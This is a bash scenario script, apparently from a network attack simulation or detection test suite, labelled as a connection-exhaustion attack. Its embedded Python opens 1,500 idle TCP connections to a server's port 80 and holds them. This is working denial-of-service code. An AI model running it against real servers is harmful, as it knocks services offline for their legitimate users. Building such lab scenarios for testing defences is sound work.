# shellcheck shell=bash
# about: 1,500 connections that say nothing (python3)
# type: attack
# kind: connection_exhaustion
# target: server
# source: attacker
# tools: python3
# within_ms: 10000
# also: slow_http
# packets: 3000
play() {
	on attacker timeout 20 python3 - "$SERVER_IP" <<-'END'
		import resource, socket, sys, time
		resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
		held = []
		for _ in range(1500):
		    try:
		        held.append(socket.create_connection((sys.argv[1], 80), 1))
		    except OSError:
		        pass
		    time.sleep(0.003)
		time.sleep(8)
	END
}
